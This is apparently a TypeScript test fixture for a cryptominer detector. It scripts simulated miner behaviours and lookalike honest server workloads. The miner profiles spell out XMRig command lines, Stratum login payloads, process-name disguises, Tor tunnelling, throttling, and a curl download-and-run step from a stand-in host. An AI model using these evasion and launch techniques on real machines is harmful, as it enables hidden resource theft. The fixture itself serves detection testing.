/** Miners and honest load as a server sees them: each plays its part on a machine of the tests. */
import type { Machine } from './machine.ts';

export interface Profile { name: string; play(m: Machine): void }

export const wallet = '44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A';
const bitcoin = '1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa', ether = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed';
const far = '198.51.100.77', other = '203.0.113.201', lan = '10.0.0.40';
const login = (user = wallet, agent = 'XMRig/6.21.0 (Linux x86_64)'): string => `{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"${user}","pass":"x","agent":"${agent}","algo":["rx/0","cn/1"]}}\n`;
const subscribe = '{"id": 1, "method": "mining.subscribe", "params": ["worker/1.0"]}\n';
const all = 390, third = 35;

/** A TLS ClientHello that names this server. */
function hello(name: string): string {
  const u16 = (n: number): string => String.fromCharCode(n >> 8, n & 255);
  const sni = u16(0) + u16(name.length + 5) + u16(name.length + 3) + '\0' + u16(name.length) + name;
  const body = '\x03\x03' + 'r'.repeat(32) + '\x20' + 's'.repeat(32) + u16(4) + '\x13\x01\x13\x02\x01\0' + u16(sni.length) + sni;
  const shake = '\x01\0' + u16(body.length) + body;
  return '\x16\x03\x01' + u16(shake.length) + shake;
}

const written = (m: Machine, by: number, path: string): void => { m.file(by, 'create', path, { file_inode: 77, file_device: 8 }); };

/** Started by a shell; full load on every core unless told otherwise. */
function mine(m: Machine, parent: number, path: string, cmdline: string, how: { ip?: string; port?: number; minutes?: number; percent?: number; host?: number; name?: string; payload?: string; ask?: string } = {}): number {
  const pid = m.spawn(parent, path, cmdline);
  if (how.ask !== undefined) m.ask(pid, how.ask);
  if (how.port !== undefined) m.connect(pid, how.ip ?? far, how.port);
  if (how.payload !== undefined) m.flow(pid, how.ip ?? far, how.port ?? 3333, how.payload);
  if (how.minutes !== undefined) m.load(how.minutes, [{ pid, percent: how.percent ?? all, ...(how.name !== undefined && { name: how.name }) }], how.host ?? (how.percent === undefined ? 98 : 30));
  return pid;
}

const simple = (name: string, path: string, cmdline: string, how: Parameters<typeof mine>[4] = {}, from: 'login' | 'cron' | 'web' | 'unit' = 'login'): Profile => ({
  name,
  play(m) {
    const parent = from === 'login' ? m.login() : from === 'cron' ? m.cron(cmdline) : from === 'web' ? m.spawn(m.worker(), '/usr/bin/dash', 'sh -c run') : undefined;
    if (parent !== undefined) { mine(m, parent, path, cmdline, how); return; }
    const pid = m.service(path, cmdline, { unit: 'helper' });
    if (how.ask !== undefined) m.ask(pid, how.ask);
    if (how.port !== undefined) m.connect(pid, how.ip ?? far, how.port);
    if (how.payload !== undefined) m.flow(pid, how.ip ?? far, how.port ?? 3333, how.payload);
    if (how.minutes !== undefined) m.load(how.minutes, [{ pid, percent: how.percent ?? all }], how.host ?? (how.percent === undefined ? 98 : 30));
  },
});

export const miners: readonly Profile[] = [
  // Plain: all on the command line.
  simple('xmrig as it is', '/root/xmrig', `./xmrig -o pool.example.org:3333 -u ${wallet} -p x --donate-level 1`),
  simple('xmrig in /tmp, stratum URL', '/tmp/xmrig', `./xmrig --url=stratum+tcp://pool.example.org:443 --user=${wallet}`),
  simple('minerd on a subdomain', '/usr/local/bin/minerd', 'minerd -a cryptonight -o stratum+tcp://xmr.example.org:5555 -u me.w -p x'),
  simple('renamed, options stay', '/usr/local/bin/apache-worker', `apache-worker -o 198.51.100.77:14444 -u ${wallet} -k --donate-level=0`),
  simple('renamed, short options only', '/opt/data/proc', `proc -a rx/0 -o 198.51.100.77:7777 -u abc`),
  simple('ethash for a wallet', '/home/wang/gm', `gm --algo ethash --server eth-pool.example.org:4444 -w ${ether}`),
  simple('kawpow by pool name', '/srv/t', `t -a kawpow -o rvn.pool.example.org:3333 -u RVN.rig -p x`),
  simple('bitcoin address and sha256d', '/opt/c', `c -a sha256d -o stratum+tcp://198.51.100.77:3333 -u ${bitcoin}.1 -p x`),
  simple('auto-coin service', '/opt/u', `u -a rx/0 -o rx.unmineable.com:3333 -u TRX:abc.w#1 -p x`),
  simple('threads hint and rig id', '/opt/svc/agent', 'agent --cpu-max-threads-hint=35 --rig-id=web1 --coin=monero -o 198.51.100.77:443 -u x', {}, 'unit'),
  simple('TLS switch with a pool name', '/opt/svc/agent2', 'agent2 --tls -o asia.hashvault.pro:443 -u x', {}, 'cron'),
  // Nothing on the command line; the protocol in the clear.
  simple('login in traffic, config file', '/var/lib/a/worker', './worker', { port: 3333, payload: login() }),
  simple('login to port 443 in the clear', '/var/lib/a/worker', './worker', { port: 443, payload: login() }, 'unit'),
  simple('login with a masked agent', '/opt/x/logd', './logd', { port: 80, payload: login('abc', 'curl/8') }),
  simple('subscribe in traffic', '/opt/x/run', './run', { port: 45_700, payload: subscribe }),
  simple('JSON with escaped letters', '/opt/x/run2', './run2', { port: 8080, payload: subscribe.replace('mining.', '\\u006dining\\u002e') }),
  simple('eth_submitLogin', '/opt/x/gpu', './gpu', { port: 4444, payload: '{"id":1,"method":"eth_submitLogin","params":["0x00"]}' }),
  simple('through a proxy in the LAN', '/opt/x/run3', './run3', { ip: lan, port: 3333, payload: login('rig4') }),
  simple('by python', '/usr/bin/python3.11', 'python3 /opt/work/m.py', { port: 3333, payload: subscribe }),
  simple('by node', '/usr/bin/node', 'node index.js', { port: 3333, payload: login() }),
  simple('by java', '/usr/bin/java', 'java -jar m.jar', { port: 3333, payload: subscribe }),
  simple('by bash over /dev/tcp', '/usr/bin/bash', 'bash /root/.x.sh', { port: 3333, payload: login() }),
  simple('by a package\'s own socat', '/usr/bin/socat', 'socat TCP-LISTEN:3333 TCP:198.51.100.77:3333', { port: 3333, payload: login() }),
  simple('from memory', '/memfd:x (deleted)', 'sshd', { port: 3333, payload: login() }, 'web'),
  simple('deleted file', '/root/d (deleted)', './d', { port: 3333, payload: subscribe }),
  // Names asked and shown.
  simple('TLS, pool in the server name', '/opt/x/t1', './t1', { port: 443, payload: hello('xmr-eu1.nanopool.org') }),
  simple('TLS, wording of a pool', '/opt/x/t2', './t2', { port: 443, payload: hello('stratum.example.net'), minutes: 6 }),
  simple('pool asked of DNS, then work', '/opt/x/t3', './t3', { ask: 'pool.supportxmr.com', port: 443, minutes: 6 }),
  simple('pool wording asked, throttled', '/opt/x/t4', './t4', { ask: 'xmr.pool.example.io', port: 443, minutes: 30, percent: third }),
  simple('listed address', '/opt/x/t5', './t5', { ip: '203.0.113.66', port: 443 }),
  simple('listed domain', '/opt/x/t6', './t6', { ask: 'hidden.example.com', port: 443, minutes: 5 }),
  simple('HTTP CONNECT through a proxy', '/opt/x/t7', './t7', { ip: lan, port: 8080, payload: 'CONNECT pool.hashvault.pro:443 HTTP/1.1\r\n\r\n' }),
  simple('Tor with a hidden name', '/tmp/.t/t8', './t8', { ip: '127.0.0.1', port: 9050, payload: '\x05\x01\0\x05\x01\0\x03\x0cabcdef.onion\x0d\x05', minutes: 6 }),
  simple('Tor, throttled, hidden folder', '/var/tmp/.t/t9', './t9', { ip: '127.0.0.1', port: 9050, minutes: 30, percent: third }),
  simple('SOCKS proxy and posing as a kernel thread', '/opt/x/kw', '[kworker/3:1]', { ip: '127.0.0.1', port: 1080, minutes: 6 }),
  // Posing, no readable traffic.
  simple('posing as a kernel thread', '/var/lib/k', '[kworker/0:2]', { port: 443, minutes: 6 }, 'cron'),
  simple('kernel name taken while it runs', '/var/lib/k2', './k2', { port: 443, minutes: 12, name: 'kworker/u8:2' }),
  simple('bash that calls itself a kernel thread', '/usr/bin/bash', '[kthreadd]', { port: 3333, payload: login() }),
  simple('rsyslogd in a hidden folder', '/var/.log/rsyslogd', '/var/.log/rsyslogd -n', { port: 443, minutes: 6 }, 'unit'),
  simple('journald in /opt', '/opt/log/systemd-journald', 'systemd-journald', { port: 443, minutes: 6 }, 'unit'),
  simple('one letter off', '/usr/sbin/rsylsogd', '/usr/sbin/rsylsogd -n', { port: 443, minutes: 25 }, 'unit'),
  simple('sshd in /tmp', '/tmp/sshd', '/usr/sbin/sshd -D', { port: 443, minutes: 6 }, 'web'),
  simple('nginx in a hidden folder', '/root/.conf/nginx', 'nginx: worker process', { port: 443, minutes: 6 }),
  simple('title of a daemon', '/opt/x/a1', '/usr/sbin/crond -n', { port: 443, minutes: 6 }),
  simple('known worm\'s name', '/tmp/kdevtmpfsi', '/tmp/kdevtmpfsi'),
  // Packed and silent: load, place and connection.
  simple('packed in /tmp, all cores', '/tmp/a', './a', { port: 443, minutes: 15 }),
  simple('packed in /dev/shm, all cores', '/dev/shm/z', './z', { port: 8443, minutes: 15 }, 'web'),
  simple('packed in a system-like folder', '/usr/local/lib/sysd/monitord', 'monitord', { port: 443, minutes: 30 }, 'unit'),
  simple('packed in /usr/bin, owned by nobody', '/usr/bin/.dbusd', '/usr/bin/.dbusd', { port: 443, minutes: 25 }, 'cron'),
  simple('throttled to a third, in /tmp', '/var/tmp/svc', './svc', { port: 443, minutes: 30, percent: third }),
  simple('throttled to a third, ordinary folder', '/opt/monitor/collectd-x', 'collectd-x', { port: 443, minutes: 40, percent: third }, 'unit'),
  simple('throttled on a pool\'s port', '/srv/bin/up', 'up', { port: 3333, minutes: 40, percent: third }, 'cron'),
  simple('web shell\'s child, throttled', '/var/www/html/uploads/img', './img', { port: 443, minutes: 30, percent: third }, 'web'),
  simple('deleted after start, all cores', '/srv/q (deleted)', './q', { port: 443, minutes: 25 }),
  {
    name: 'package\'s file replaced',
    play(m) { mine(m, m.login(), '/usr/bin/replaced', 'replaced', { port: 443, minutes: 25 }); },
  },
  {
    name: 'huge pages by a shell, miner beside it',
    play(m) { const bash = m.login('root'); m.file(m.spawn(bash, '/usr/sbin/sysctl', 'sysctl -w vm.nr_hugepages=1280'), 'write', '/proc/sys/vm/nr_hugepages'); mine(m, bash, '/opt/y/job', './job', { port: 443, minutes: 15 }); },
  },
  {
    name: 'writes registers and huge pages itself',
    play(m) { const pid = mine(m, m.login('root'), '/opt/y/job2', './job2', { port: 443 }); m.file(pid, 'write', '/dev/cpu/0/msr'); m.file(pid, 'write', '/sys/devices/system/node/node0/hugepages/hugepages-2048kB/nr_hugepages'); },
  },
  {
    name: 'wallet in the shell\'s command, miner reads a file',
    play(m) { const sh = m.spawn(m.login(), '/usr/bin/bash', `bash -c cd /opt/y && echo ${wallet} > w && ./run`); mine(m, sh, '/opt/y/run', './run', { port: 443, minutes: 6 }); },
  },
  {
    name: 'split: a script keeps it alive and asks the pool',
    play(m) {
      const sh = m.cron('bash -c ./keep.sh stratum+tcp://x.example.org:3333');
      const keep = m.spawn(sh, '/usr/bin/bash', 'bash /opt/y/keep.sh stratum+tcp://x.example.org:3333');
      for (let i = 0; i < 3; i++) { const pid = mine(m, keep, '/opt/y/part', './part', { port: 443, minutes: 4 }); m.end(pid); }
    },
  },
  {
    name: 'started anew under new pids every few minutes, no pause between',
    play(m) { const sh = m.cron('/opt/y/loop'); for (let i = 0; i < 8; i++) { const pid = mine(m, sh, '/tmp/y', './y', { port: 443, minutes: 4 }); m.end(pid); } },
  },
  {
    name: 'many processes of one file, each small',
    play(m) { const sh = m.login(); const pids = [1, 2, 3, 4, 5, 6].map(() => m.spawn(sh, '/var/tmp/w', './w')); m.connect(pids[0]!, far, 443); m.load(30, pids.map((pid) => ({ pid, percent: 60 })), 95); },
  },
  {
    name: 'downloaded, made runnable, works',
    play(m) { const sh = m.spawn(m.worker(), '/usr/bin/dash', 'sh -c x'); written(m, m.spawn(sh, '/usr/bin/curl', 'curl -o /opt/z/up http://198.51.100.9/up'), '/opt/z/up'); const pid = m.fork(sh); m.exec(pid, '/opt/z/up', './up', { file_inode: 77, file_device: 8 }); m.connect(pid, far, 443); m.load(15, [{ pid, percent: all }], 97); },
  },
  {
    name: 'npm script starts it',
    play(m) { const npm = m.spawn(m.login(), '/usr/bin/npm', 'npm install left'); const sh = m.spawn(npm, '/usr/bin/dash', 'sh -c node-gyp'); mine(m, sh, '/root/node_modules/left/bin', './bin', { port: 443, minutes: 15 }); },
  },
  {
    name: 'falls back to a second pool',
    play(m) { const pid = m.spawn(m.login(), '/opt/two', './two'); m.connect(pid, far, 443); m.wait(1000); m.connect(pid, other, 443); m.load(30, [{ pid, percent: all }], 98); },
  },
  {
    name: 'no packages known, in a hidden folder',
    play(m) { mine(m, m.cron('/home/wang/.systemd/agent'), '/home/wang/.systemd/agent', 'agent', { port: 8443, minutes: 30, percent: 180, host: 60 }); },
  },
];

function work(m: Machine, parent: number, path: string, cmdline: string, how: { minutes?: number; percent?: number | ((s: number) => number); host?: number; ip?: string; port?: number; serve?: number; write?: number; payload?: string; ask?: string } = {}): number {
  const pid = m.spawn(parent, path, cmdline);
  if (how.ask !== undefined) m.ask(pid, how.ask);
  if (how.serve !== undefined) { m.tell('listener', pid, { action: 'listener-start', destination_ip: '0.0.0.0', destination_port: how.serve }); m.accept(pid, how.serve, other); }
  if (how.port !== undefined) m.connect(pid, how.ip ?? far, how.port);
  if (how.payload !== undefined) m.flow(pid, how.ip ?? far, how.port ?? 443, how.payload);
  if (how.minutes !== undefined) m.load(how.minutes, [{ pid, percent: how.percent ?? all, ...(how.write !== undefined && { write: how.write }) }], how.host ?? 97);
  return pid;
}

const job = (name: string, path: string, cmdline: string, how: Parameters<typeof work>[4] = {}): Profile => ({ name, play(m) { work(m, m.login(), path, cmdline, how); } });
const service = (name: string, path: string, cmdline: string, how: Parameters<typeof work>[4] = {}): Profile => ({ name, play(m) { const pid = m.service(path, cmdline, { unit: name.replaceAll(' ', '-') }); if (how.serve !== undefined) { m.tell('listener', pid, { action: 'listener-start', destination_ip: '0.0.0.0', destination_port: how.serve }); m.accept(pid, how.serve, other); } if (how.port !== undefined) m.connect(pid, how.ip ?? far, how.port); if (how.payload !== undefined) m.flow(pid, how.ip ?? far, how.port ?? 443, how.payload); m.load(how.minutes ?? 30, [{ pid, percent: how.percent ?? all, ...(how.write !== undefined && { write: how.write }) }], how.host ?? 97); } });
const swings = (s: number): number => 40 + 38 * Math.sin(s / 40) + 20 * Math.sin(s / 7);

export const honest: readonly Profile[] = [
  job('ffmpeg of the distribution', '/usr/bin/ffmpeg', 'ffmpeg -i in.mp4 -c:v libx264 out.mp4', { minutes: 40, write: 8e6 }),
  job('static ffmpeg that streams to one server', '/usr/local/bin/ffmpeg', 'ffmpeg -re -i in.mp4 -f flv rtmp://live.example.org/a', { minutes: 40, port: 1935 }),
  job('static ffmpeg over TLS', '/opt/ffmpeg/ffmpeg', 'ffmpeg -i https://cdn.example.org/a.m3u8 -c copy x', { minutes: 40, port: 443 }),
  job('x265', '/usr/bin/x265', 'x265 --input a.y4m -o b.hevc', { minutes: 30 }),
  job('HandBrake', '/usr/bin/HandBrakeCLI', 'HandBrakeCLI -i a -o b --encoder x264', { minutes: 30 }),
  job('gcc', '/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus', 'cc1plus -quiet -O2 a.cc -o /tmp/a.s', { minutes: 10, percent: 100 }),
  job('rust tool chain in the home folder', '/root/.rustup/toolchains/stable/bin/rustc', 'rustc --crate-name a -C opt-level=3', { minutes: 20 }),
  job('cargo fetches and builds', '/root/.cargo/bin/cargo', 'cargo build --release', { minutes: 20, port: 443, ask: 'static.crates.example.org' }),
  job('go build in /tmp', '/tmp/go-build123/b001/exe/app', '/tmp/go-build123/b001/exe/app', { minutes: 20, port: 5432 }),
  job('go test in /tmp', '/tmp/go-build9/b2/x.test', 'x.test -test.v', { minutes: 20 }),
  job('stress-ng', '/usr/bin/stress-ng', 'stress-ng --cpu 4 --timeout 1h', { minutes: 60 }),
  job('stress-ng poses by design', '/usr/bin/stress-ng', 'stress-ng-cpu [run]', { minutes: 30 }),
  job('zstd', '/usr/bin/zstd', 'zstd -19 -T0 dump.tar', { minutes: 30, write: 5e6 }),
  job('xz from source', '/usr/local/bin/xz', 'xz -9 -T0 dump.tar', { minutes: 30, write: 5e6 }),
  job('7-Zip static', '/opt/7z/7zz', '7zz a -mx9 a.7z data', { minutes: 30 }),
  job('openssl speed', '/usr/bin/openssl', 'openssl speed -multi 4 rsa', { minutes: 10 }),
  job('sysbench', '/usr/bin/sysbench', 'sysbench cpu --threads=4 run', { minutes: 10 }),
  job('python numbers', '/usr/bin/python3.11', 'python3 train.py --epochs 100', { minutes: 60 }),
  job('python training with a tracker', '/opt/conda/bin/python3.11', 'python train.py --lr 0.1', { minutes: 60, port: 443, ask: 'api.tracker.example.org' }),
  job('python that streams from a broker', '/usr/bin/python3.11', 'python3 consumer.py', { minutes: 60, port: 9092, ip: lan, percent: 60, host: 30 }),
  job('node build', '/usr/bin/node', 'node node_modules/.bin/vite build', { minutes: 5, percent: 150 }),
  job('esbuild from a package', '/srv/app/node_modules/esbuild/bin/esbuild', 'esbuild --service', { minutes: 5 }),
  job('blender render', '/opt/blender/blender', 'blender -b scene.blend -a', { minutes: 60 }),
  job('blender on a farm', '/opt/blender/blender', 'blender -b scene.blend', { minutes: 60, port: 8080, ip: lan }),
  job('gromacs', '/usr/local/gromacs/bin/gmx_mpi', 'gmx_mpi mdrun -deffnm md', { minutes: 60 }),
  job('own simulation, no network', '/home/wang/sim/solver', './solver --n 1000000', { minutes: 120 }),
  job('own crawler, uneven', '/home/wang/crawl/crawler', './crawler seeds.txt', { minutes: 60, port: 443, percent: swings, host: 40 }),
  job('apt upgrade', '/usr/bin/apt-get', 'apt-get -y dist-upgrade', { minutes: 10, percent: 90, port: 80 }),
  job('clamscan', '/usr/bin/clamscan', 'clamscan -r /', { minutes: 60, percent: 99 }),
  job('rsync', '/usr/bin/rsync', 'rsync -a /data 10.0.0.9:/backup', { minutes: 60, percent: 60, port: 22, ip: lan }),
  job('restic static', '/usr/local/bin/restic', 'restic backup /srv', { minutes: 40, port: 443, percent: 250, write: 1e6 }),
  job('rclone to object storage', '/usr/local/bin/rclone', 'rclone sync /srv oss:bucket', { minutes: 40, port: 443, percent: 120 }),
  job('openssh copy on port 2222', '/usr/bin/scp', 'scp -P 2222 a b@192.0.2.9:', { minutes: 20, port: 2222, percent: 60, host: 30 }),
  job('grep for miners', '/usr/bin/grep', `grep -r stratum+tcp:// /var/log --include ${wallet}`),
  job('an admin kills one', '/usr/bin/pkill', 'pkill -f xmrig --donate-level'),
  job('whois of a pool', '/usr/bin/dig', 'dig pool.supportxmr.com', { ask: 'pool.supportxmr.com' }),
  job('curl of a pool\'s page', '/usr/bin/curl', 'curl -o page.html https://supportxmr.com:443/', { ask: 'supportxmr.com', port: 443, payload: hello('supportxmr.com') }),
  job('curl with an address of a shop', '/usr/bin/curl', `curl https://explorer.example.org/address/${bitcoin}`, { port: 443 }),
  job('login over JSON-RPC to one\'s own service', '/opt/app/client', './client', { port: 8080, payload: '{"jsonrpc":"2.0","method":"login","params":{"user":"wang","password":"secret"}}', minutes: 5 }),
  job('ntp from a pool', '/usr/sbin/chronyd', 'chronyd -F 1', { ask: '2.debian.pool.ntp.org', port: 123 }),
  job('docker run with a port', '/usr/bin/docker', 'docker run -p 3333:3333 -a stdout image'),
  job('a development server on 3333', '/usr/bin/node', 'node server.js --port 3333', { serve: 3333, minutes: 20, percent: 60, host: 30 }),
  job('hashcat for an audit', '/usr/bin/hashcat', 'hashcat -a 0 -m 1000 hashes list', { minutes: 60 }),
  service('MySQL', '/usr/sbin/mysqld', '/usr/sbin/mysqld', { serve: 3306, write: 2e7 }),
  service('MySQL built from source', '/www/server/mysql/bin/mysqld', 'mysqld --basedir=/www/server/mysql', { serve: 3306 }),
  service('PostgreSQL', '/usr/lib/postgresql/15/bin/postgres', 'postgres: parallel worker', { serve: 5432 }),
  service('ClickHouse static', '/opt/clickhouse/clickhouse-server', 'clickhouse-server', { serve: 9000 }),
  service('Java shop', '/usr/lib/jvm/java-17/bin/java', 'java -Xmx8g -jar shop.jar', { serve: 8080, port: 3306, ip: lan }),
  service('Java unpacked by hand', '/opt/jdk-21/bin/java', 'java -jar worker.jar', { port: 5672, ip: lan }),
  service('nginx from source at full load', '/usr/local/nginx/sbin/nginx', 'nginx: worker process', { serve: 443 }),
  service('php-fpm of a panel', '/www/server/php/80/sbin/php-fpm', 'php-fpm: pool www', { serve: 9000 }),
  service('sshd from source', '/usr/local/sbin/sshd', '/usr/local/sbin/sshd -D', { serve: 22, percent: 40, host: 20 }),
  service('LLM inference', '/opt/llama.cpp/llama-server', 'llama-server -m model.gguf --port 8000', { serve: 8000 }),
  service('LLM inference with a hub', '/usr/local/bin/ollama', 'ollama serve', { serve: 11_434, port: 443 }),
  service('LLM in python', '/opt/venv/bin/python3.11', 'python -m vllm.entrypoints.api_server', { serve: 8000, port: 443 }),
  service('redis built by hand', '/usr/local/bin/redis-server', 'redis-server *:6379', { serve: 6379, percent: 99, host: 30 }),
  service('Prometheus', '/opt/prometheus/prometheus', 'prometheus --config.file=p.yml', { serve: 9090, port: 9100, ip: lan }),
  service('node exporter, uneven', '/usr/local/bin/node_exporter', 'node_exporter', { serve: 9100, percent: swings, host: 20 }),
  service('own Go service behind nginx', '/srv/api/api', './api', { serve: 8080, port: 5432, ip: lan }),
  service('game server', '/home/steam/valheim/server.x86_64', 'server.x86_64 -port 2456', { serve: 2456, percent: 130, host: 60 }),
  service('monitoring agent, a little', '/usr/local/cloudmonitor/bin/argusagent', 'argusagent', { port: 443, percent: 3, host: 5 }),
  service('tunnel client, uneven', '/opt/frp/frpc', 'frpc -c frpc.toml', { port: 7000, percent: swings, host: 20 }),
  service('virtual machine', '/usr/bin/qemu-system-x86_64', 'qemu-system-x86_64 -m 4096', { percent: 300 }),
  {
    name: 'BOINC: client and its workers',
    play(m) {
      const boinc = m.service('/usr/bin/boinc', '/usr/bin/boinc', { unit: 'boinc-client' });
      m.connect(boinc, far, 443);
      const pids = [1, 2, 3, 4].map((slot) => m.spawn(boinc, '/var/lib/boinc-client/projects/einstein.example.org/hsgamma_1.28_x86_64', `hsgamma --device ${slot}`));
      m.load(90, pids.map((pid) => ({ pid, percent: 98 })), 98);
    },
  },
  {
    name: 'CI build in containers and /tmp',
    play(m) {
      const runner = m.service('/usr/local/bin/gitlab-runner', 'gitlab-runner run', { unit: 'gitlab-runner' });
      m.connect(runner, far, 443);
      for (let i = 0; i < 4; i++) {
        const sh = m.spawn(runner, '/usr/bin/bash', `bash -c make -j4 -o ${i}`);
        m.load(4, [m.spawn(sh, '/usr/bin/make', 'make -j4'), m.spawn(sh, '/usr/lib/gcc/x86_64-linux-gnu/12/cc1', 'cc1 -O2 a.c'), m.spawn(sh, `/tmp/builds/${i}/unit_test`, './unit_test')].map((pid) => ({ pid, percent: 120 })), 96);
      }
    },
  },
  {
    name: 'database machine with huge pages',
    play(m) { const bash = m.login('root'); m.file(m.spawn(bash, '/usr/sbin/sysctl', 'sysctl -w vm.nr_hugepages=1280'), 'write', '/proc/sys/vm/nr_hugepages'); work(m, bash, '/opt/db/bin/dbserver', 'dbserver --data /srv', { serve: 7000, minutes: 40 }); },
  },
  {
    name: 'power tool reads registers',
    play(m) { const bash = m.login('root'); m.spawn(bash, '/usr/sbin/modprobe', 'modprobe msr'); m.file(m.spawn(bash, '/usr/sbin/turbostat', 'turbostat'), 'write', '/dev/cpu/0/msr'); m.load(10, [{ pid: m.spawn(bash, '/usr/bin/stress-ng', 'stress-ng --cpu 4'), percent: all }], 98); },
  },
  {
    name: 'shop that takes coins',
    play(m) { const pid = m.service('/srv/shop/shop', './shop --serve', { unit: 'shop' }); m.tell('listener', pid, { action: 'listener-start', destination_ip: '0.0.0.0', destination_port: 8080 }); m.flow(pid, far, 443, `POST /v1/invoice HTTP/1.1\r\n\r\n{"address":"${bitcoin}","eth":"${ether}"}`); m.load(20, [{ pid, percent: 80 }], 30); },
  },
  {
    name: 'ethereum node\'s user asks it',
    play(m) { const pid = m.spawn(m.login(), '/usr/bin/node', 'node watch.js'); m.flow(pid, lan, 8545, `{"jsonrpc":"2.0","id":1,"method":"eth_call","params":[{"to":"${ether}"},"latest"]}`); m.load(20, [{ pid, percent: 40 }], 20); },
  },
];
